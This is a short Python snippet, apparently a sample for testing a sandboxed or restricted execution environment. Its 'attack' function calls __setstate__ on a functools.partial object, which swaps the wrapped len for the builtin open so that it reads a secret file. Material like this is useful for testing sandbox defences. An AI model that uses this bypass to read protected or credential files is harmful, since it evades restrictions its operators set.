# The state of a partial is set to another function.
from functools import partial


def attack(secret_path):
    one = partial(len)
    one.__setstate__((__builtins__["open"], (secret_path,), {}, None))
    return one().read()
